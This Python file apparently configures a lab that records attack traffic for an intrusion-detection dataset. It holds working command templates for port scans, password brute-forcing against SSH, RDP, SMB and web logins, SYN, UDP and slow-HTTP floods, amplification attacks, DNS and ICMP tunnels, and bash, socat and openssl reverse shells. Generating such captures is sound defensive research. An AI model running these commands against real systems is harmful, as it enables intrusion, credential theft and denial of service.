"""The attacks that are recorded: one capture per run of one tool. Commands are templates over the lab's addresses (see runner.py).

A run: name of the capture, class, tool, where it runs (out: an Internet host, in: a machine of the office that goes on with its ordinary
work), victim, port ('' or a word: many), filter of its packets, seconds at most, command.
"""

import dataclasses


@dataclasses.dataclass(frozen=True)
class Run:
    name: str
    attack_class: str
    tool: str
    place: str
    victim: str
    port: str
    packets: str
    seconds: int
    command: str


def scan(name: str, tool: str, place: str, victim: str, command: str, seconds: int = 40) -> Run:
    both = 'net' if '/' in victim else 'host'
    return Run(f'scan_{name}', 'port_scan', tool, place, victim, 'many', f'host {{attacker}} and {both} {victim}', seconds, command)


SCANS = [
    scan('nmap_syn', 'nmap', 'out', '{nas}', 'nmap -n -Pn -sS -T4 {nas}'),
    scan('nmap_connect', 'nmap', 'in', '{db}', 'nmap -n -Pn -sT --top-ports 700 {db}'),
    scan('nmap_udp', 'nmap', 'out', '{files}', 'nmap -n -Pn -sU --top-ports 60 --max-retries 1 --host-timeout 35s {files}'),
    scan('nmap_version', 'nmap', 'in', '{git}', 'nmap -n -Pn -sV -p 1-200 {git}'),
    scan('nmap_all', 'nmap', 'out', '{app1}', 'nmap -n -Pn -A -T4 --top-ports 300 {app1}'),
    scan('nmap_slow', 'nmap', 'out', '{mail}', 'nmap -n -Pn -sS -T2 --top-ports 150 {mail}', 75),
    scan('nmap_null', 'nmap', 'out', '{app2}', 'nmap -n -Pn -sN -p 1-400 {app2}'),
    scan('nmap_fin', 'nmap', 'in', '{app3}', 'nmap -n -Pn -sF -p 1-400 {app3}'),
    scan('nmap_xmas', 'nmap', 'out', '{app4}', 'nmap -n -Pn -sX -p 1-400 {app4}'),
    scan('nmap_ack', 'nmap', 'out', '{nas}', 'nmap -n -Pn -sA -p 1-300 {nas}'),
    scan('nmap_sweep', 'nmap', 'in', '172.20.8.0/24', 'nmap -n -sn --max-retries 0 -T4 172.20.8.0/24'),
    scan('nmap_services', 'nmap', 'in', '172.20.8.0/24', 'nmap -n -Pn -sS -T4 --max-retries 0 -p 22,445,3389 172.20.8.0/25'),
    scan('nmap_fragments', 'nmap', 'out', '{db}', 'nmap -n -Pn -sS -f --data-length 20 -p 1-300 {db}'),
    scan('nmap_decoys', 'nmap', 'out', '{files}', 'nmap -n -Pn -sS -D 31.13.64.9,62.210.3.7,{attacker} -p 1-300 {files}'),
    scan(
        'masscan_ports', 'masscan', 'out', '{nas}', 'masscan {nas} -p 1-2000 --rate 300 --router-mac {mac} --adapter-ip {attacker} --wait 2'
    ),
    scan(
        'masscan_hosts',
        'masscan',
        'in',
        '172.20.8.0/24',
        'masscan 172.20.8.0/24 -p 22,80,443,445,3389 --rate 200 --router-mac {mac} --wait 2',
    ),
    scan(
        'zmap_ssh',
        'zmap',
        'out',
        '10.31.0.0/24',
        'zmap -B 200K -p 22 -i eth0 -G {mac} -S {attacker} -c 3 -b {folder}/nothing -o /dev/null 10.31.0.0/24',
    ),
    scan(
        'zmap_web',
        'zmap',
        'in',
        '172.20.8.0/24',
        'zmap -B 100K -p 443 -i eth0 -G {mac} -S {attacker} -c 3 -b {folder}/nothing -o /dev/null 172.20.8.0/24',
    ),
    scan('hping3_syn', 'hping3', 'out', '{git}', 'hping3 --scan 1-900 -S {git}'),
    scan('hping3_udp', 'hping3', 'in', '{printer1}', 'hping3 -q -2 -p ++1 -i u20000 -c 600 {printer1}'),
    scan('netcat_loop', 'netcat', 'in', '{printer2}', 'sh -c "for port in $(seq 1 400); do nc -z -w 1 {printer2} $port; done"'),
    scan('bash_loop', 'bash', 'in', '{intra}', 'bash -c "for port in $(seq 1 500); do (exec 3<>/dev/tcp/{intra}/$port); done"'),
    scan('python_connect', 'python-connect', 'out', '{broker}', '{python} {here}/knock.py connect {broker} 1-600 0.03'),
    scan('scapy_syn', 'scapy', 'out', '{balancer}', '{python} {here}/knock.py syn {balancer} 1-300 0.02'),
    scan('python_hosts', 'python-connect', 'in', '172.20.8.0/24', '{python} {here}/knock.py hosts 172.20.8.0/25 445 0.05', 45),
    scan('fping_sweep', 'fping', 'out', '10.31.0.0/24', 'fping -q -r 0 -i 15 -g 10.31.0.0/24'),
    scan('nbtscan_sweep', 'nbtscan', 'in', '172.20.8.0/24', 'nbtscan -r 172.20.8.0/24'),
    scan('onesixtyone_snmp', 'onesixtyone', 'in', '172.20.8.0/24', 'onesixtyone -w 20 172.20.8.0/24 private'),
]


def guess(
    name: str, tool: str, place: str, victim: str, port: str, command: str, seconds: int = 50, attack_class: str = 'ssh_bruteforce'
) -> Run:
    hosts = ' or '.join(f'host {each}' for each in victim.split())
    return Run(name, attack_class, tool, place, victim, port, f'host {{attacker}} and ({hosts}) and port {port}', seconds, command)


GUESSES = [
    guess('ssh_hydra_list', 'hydra', 'out', '{git}', '22', 'hydra -q -I -w 1 -t 4 -l root -P {words} ssh://{git}'),
    guess('ssh_hydra_inside', 'hydra', 'in', '{nas}', '22', 'hydra -q -I -w 1 -t 2 -L {users} -P {words} ssh://{nas}'),
    guess('ssh_medusa_list', 'medusa', 'out', '{db}', '22', 'medusa -h {db} -u root -P {words} -M ssh -t 3'),
    guess('ssh_ncrack_list', 'ncrack', 'out', '{app1}', '22', 'ncrack -T4 --user root -P {words} ssh://{app1}'),
    guess(
        'ssh_patator_list',
        'patator',
        'out',
        '{app2}',
        '22',
        'patator ssh_login host={app2} user=admin password=FILE0 0={words} -t 4 --max-retries=0',
    ),
    guess(
        'ssh_nmap_script',
        'nmap',
        'in',
        '{app3}',
        '22',
        'nmap -n -Pn -p 22 --script ssh-brute --script-args userdb={users},passdb={words},brute.threads=4 {app3}',
    ),
    guess('ssh_paramiko_loop', 'paramiko', 'out', '{app4}', '22', '{python} {here}/knock.py paramiko {app4} root 60 0.3'),
    guess('ssh_paramiko_slow', 'paramiko', 'in', '{intra}', '22', '{python} {here}/knock.py paramiko {intra} oracle 30 5', 150),
    guess('ssh_asyncssh_loop', 'asyncssh', 'out', '{backup}', '22', '{python} {here}/knock.py asyncssh {backup} ubuntu 60 0.2'),
    guess(
        'ssh_sshpass_loop',
        'openssh',
        'in',
        '{db}',
        '22',
        'bash -c "for n in $(seq 60); do sshpass -p guess$n ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 admin@{db} true; done"',
    ),
    guess(
        'ssh_paramiko_spray',
        'paramiko',
        'out',
        '{git} {nas} {db} {app1} {app2} {app3} {app4} {intra} {backup}',
        '22',
        '{python} {here}/knock.py paramiko {git},{nas},{db},{app1},{app2},{app3},{app4},{intra},{backup} root 6 0.1',
    ),
    guess(
        'ssh_hydra_spray',
        'hydra',
        'in',
        '{git} {nas} {db} {app1} {app2} {app3} {app4} {intra} {backup}',
        '22',
        'hydra -q -I -w 1 -t 2 -L {users} -p Summer2026 -M {targets} ssh',
    ),
    guess('ftp_hydra_list', 'hydra', 'out', '{files}', '21', 'hydra -q -I -t 4 -l admin -P {words} ftp://{files}'),
    guess('ftp_medusa_list', 'medusa', 'in', '{files}', '21', 'medusa -h {files} -u admin -P {words} -M ftp -t 3'),
    guess('http_hydra_basic', 'hydra', 'out', '{intra}', '80', 'hydra -q -I -t 4 -l staff -P {words} http-get://{intra}/private/'),
    guess('http_medusa_basic', 'medusa', 'in', '{app1}', '80', 'medusa -h {app1} -u staff -P {words} -M http -m DIR:/private/ -t 3'),
    guess(
        'http_patator_basic',
        'patator',
        'out',
        '{app2}',
        '80',
        'patator http_fuzz url=http://{app2}/private/ user_pass=staff:FILE0 0={words} -t 4',
    ),
    guess('imap_hydra_list', 'hydra', 'out', '{mail}', '143', 'hydra -q -I -t 4 -l info -P {words} imap://{mail}/PLAIN'),
    guess('rdp_hydra_list', 'hydra', 'out', '{backup}', '3389', 'hydra -q -I -t 2 -l administrator -P {words} rdp://{backup}'),
    guess('rdp_ncrack_list', 'ncrack', 'in', '{backup}', '3389', 'ncrack --user administrator -P {words} rdp://{backup}'),
    guess(
        'smb_hydra_list', 'hydra', 'in', '{files}', '445', 'hydra -q -I -t 1 -l administrator -P {words} smb2://{files}', attack_class='apt'
    ),
    guess(
        'smb_medusa_list',
        'medusa',
        'in',
        '{files}',
        '445',
        'medusa -h {files} -u administrator -P {words} -M smbnt -t 2',
        attack_class='apt',
    ),
]


def flood(
    name: str,
    tool: str,
    victim: str,
    port: str,
    packets: str,
    command: str,
    seconds: int = 25,
    place: str = 'out',
    attacker: str = '{attacker}',
) -> Run:
    run = Run(f'flood_{name}', 'ddos', tool, place, victim, port, packets, seconds, command)
    return run


FLOODS = [
    flood('hping3_syn', 'hping3', '{app1}', '80', 'host {attacker} and host {app1}', 'hping3 -q -n -S -p 80 -i u1000 -c 14000 {app1}'),
    flood(
        'hping3_syn_random',
        'hping3-random',
        '{app2}',
        '443',
        'host {app2} and port 443 and not src net 10.31.0.0/22 and not dst net 10.31.0.48/28',
        'hping3 -q -n -S --rand-source -p 443 -i u1000 -c 14000 {app2}',
    ),
    flood('hping3_ack', 'hping3', '{app3}', '80', 'host {attacker} and host {app3}', 'hping3 -q -n -A -p 80 -i u900 -c 14000 {app3}'),
    flood(
        'hping3_udp',
        'hping3',
        '{app4}',
        '9999',
        'host {attacker} and host {app4}',
        'hping3 -q -n -2 -p 9999 -d 400 -i u1000 -c 12000 {app4}',
    ),
    flood(
        'hping3_icmp',
        'hping3',
        '{intra}',
        '',
        'host {attacker} and host {intra} and icmp',
        'hping3 -q -n -1 -d 300 -i u1000 -c 12000 {intra}',
    ),
    flood(
        'hping3_inside',
        'hping3',
        '{nas}',
        '80',
        'host {attacker} and host {nas}',
        'hping3 -q -n -S -p 80 -i u1000 -c 12000 {nas}',
        place='in',
    ),
    flood(
        't50_syn',
        't50',
        '{app1}',
        '80',
        'host {app1} and port 80 and not src net 10.31.0.0/22',
        't50 {app1} --protocol TCP --syn --dport 80 --threshold 9000',
    ),
    flood(
        'slowhttptest_header',
        'slowhttptest',
        '{app2}',
        '80',
        'host {attacker} and host {app2}',
        'slowhttptest -H -c 400 -r 60 -i 8 -l 40 -u http://{app2}/',
        45,
    ),
    flood(
        'slowhttptest_body',
        'slowhttptest',
        '{app3}',
        '80',
        'host {attacker} and host {app3}',
        'slowhttptest -B -c 400 -r 60 -i 8 -l 40 -u http://{app3}/collect',
        45,
    ),
    flood(
        'slowhttptest_read',
        'slowhttptest',
        '{app4}',
        '80',
        'host {attacker} and host {app4}',
        'slowhttptest -X -c 300 -r 60 -l 40 -w 10 -y 20 -n 5 -z 32 -u http://{app4}/update/7.bin',
        45,
    ),
    flood('goldeneye_http', 'goldeneye', '{app1}', '80', 'host {attacker} and host {app1}', 'goldeneye http://{app1}/ -w 2 -s 30 -n', 15),
    flood('ab_http', 'ab', '{app2}', '80', 'host {attacker} and host {app2}', 'ab -q -n 9000 -c 60 -t 12 http://{app2}/p/1.html', 14),
    flood('siege_http', 'siege', '{app3}', '80', 'host {attacker} and host {app3}', 'siege -q -b -c 40 -t 10S http://{app3}/', 14),
    flood('wrk_http', 'wrk', '{app4}', '80', 'host {attacker} and host {app4}', 'wrk -t 1 -c 60 -d 8 http://{app4}/api/x', 12),
    *(
        flood(
            f'amp_{shape}',
            f'amplification-{shape}',
            '{h4}',
            '',
            f'dst host {{h4}} and udp and src port {port} and greater 200',
            '{python} {here}/reflect.py ' + f'{shape} {{h4}} 14 700',
        )
        for shape, port in (('dns', 53), ('ntp', 123), ('ssdp', 1900), ('memcached', 11211), ('cldap', 389))
    ),
]


def tunnel(name: str, tool: str, packets: str, port: str, command: str, seconds: int = 60) -> Run:
    return Run(
        f'tunnel_{name}',
        'botnet_c2',
        tool,
        'in',
        '{server}',
        port,
        f'host {{attacker}} and host {{server}} and {packets}',
        seconds,
        command,
    )


def _iodine(kind: str) -> str:
    return (
        'iodined -f -c -P horse 10.99.0.1 t.upd-sync.net ||| bash -c "iodine -f -r -T '
        + kind
        + ' -P horse {server} t.upd-sync.net & sleep 9; for n in $(seq 12); do ping -q -c 3 -i 0.4 -s 400 10.99.0.1; sleep 1; done"'
    )


TUNNELS = [
    tunnel('iodine_txt', 'iodine', 'udp port 53', '53', _iodine('TXT')),
    tunnel('iodine_null', 'iodine', 'udp port 53', '53', _iodine('NULL')),
    tunnel('iodine_cname', 'iodine', 'udp port 53', '53', _iodine('CNAME')),
    tunnel(
        'iodine_idle',
        'iodine',
        'udp port 53',
        '53',
        'iodined -f -c -P horse 10.99.0.1 t.upd-sync.net ||| iodine -f -r -T TXT -I 4 -P horse {server} t.upd-sync.net',
        120,
    ),
    tunnel(
        'ptunnel_web',
        'ptunnel',
        'icmp',
        '',
        'bash -c "ptunnel & python3 -m http.server 80" ||| bash -c "ptunnel -p {server} -lp 8022 -da {server} -dp 80 & sleep 2; for n in $(seq 12); do curl -s -m 6 -o /dev/null http://127.0.0.1:8022/; sleep 3; done"',
    ),
    tunnel(
        'ptunnelng_web',
        'ptunnel-ng',
        'icmp',
        '',
        'bash -c "ptunnel-ng & python3 -m http.server 80" ||| bash -c "ptunnel-ng -p{server} -l8022 -r{server} -R80 & sleep 2; for n in $(seq 12); do curl -s -m 6 -o /dev/null http://127.0.0.1:8022/; sleep 3; done"',
    ),
    tunnel(
        'socat_shell',
        'socat',
        'tcp port 4444',
        '4444',
        'bash -c "(for n in $(seq 14); do echo id; sleep 1.7; echo ls -la /etc; sleep 2; done) | nc -l 4444" ||| socat exec:"sh -i",pty,stderr,setsid tcp:{server}:4444',
    ),
    tunnel(
        'bash_shell',
        'bash',
        'tcp port 8443',
        '8443',
        'bash -c "(for n in $(seq 14); do echo uname -a; sleep 2.1; echo ps aux; sleep 2; done) | nc -l 8443" ||| bash -c "timeout 55 bash -i >& /dev/tcp/{server}/8443 0>&1"',
    ),
    tunnel(
        'openssl_shell',
        'openssl',
        'tcp port 443',
        '443',
        'bash -c "openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=host -keyout /tmp/.k.pem -out /tmp/.c.pem; (for n in $(seq 14); do echo id; sleep 1.8; echo cat /etc/passwd; sleep 2; done) | openssl s_server -quiet -key /tmp/.k.pem -cert /tmp/.c.pem -port 443" ||| '
        'bash -c "mkfifo /tmp/.p; sh -i < /tmp/.p 2>&1 | openssl s_client -quiet -connect {server}:443 > /tmp/.p; rm /tmp/.p"',
    ),
]


def _victim(name: str, attack_class: str, tool: str, victim: str, port: str, command: str, seconds: int = 25) -> Run:
    return Run(name, attack_class, tool, 'out', victim, port, '', seconds, command)


# At low rates, one after another for as long as it lasts; victim '': a machine of somebody, drawn.
VICTIM_RUNS = [
    _victim('nmap -T3 on a desk', 'port_scan', 'nmap', '', 'many', 'nmap -n -Pn -sS -T3 --top-ports 100 --host-timeout 22s {target}'),
    _victim('ssh guesses, 2 a second', 'ssh_bruteforce', 'paramiko', 'git', '22', '{python} {here}/knock.py paramiko {target} root 30 0.5'),
    _victim('SYN flood at 200 a second', 'ddos', 'hping3', 'app1', '80', 'hping3 -q -n -S -p 80 -i u5000 -c 3000 {target}'),
    _victim('web guesses', 'ssh_bruteforce', 'hydra', 'intra', '80', 'hydra -q -I -t 2 -l staff -P {words} http-get://{target}/private/'),
    _victim(
        'connect scan of a server', 'port_scan', 'python-connect', 'db', 'many', '{python} {here}/knock.py connect {target} 1-300 0.06'
    ),
    _victim('UDP flood at 200 a second', 'ddos', 'hping3', '', 'many', 'hping3 -q -n -2 -p 443 -d 200 -i u5000 -c 3000 {target}'),
    _victim('ssh guesses by a list', 'ssh_bruteforce', 'medusa', 'nas', '22', 'medusa -h {target} -u root -P {words} -M ssh -t 2'),
    _victim('XMAS scan of a desk', 'port_scan', 'nmap', '', 'many', 'nmap -n -Pn -sX --top-ports 150 --host-timeout 22s {target}'),
]
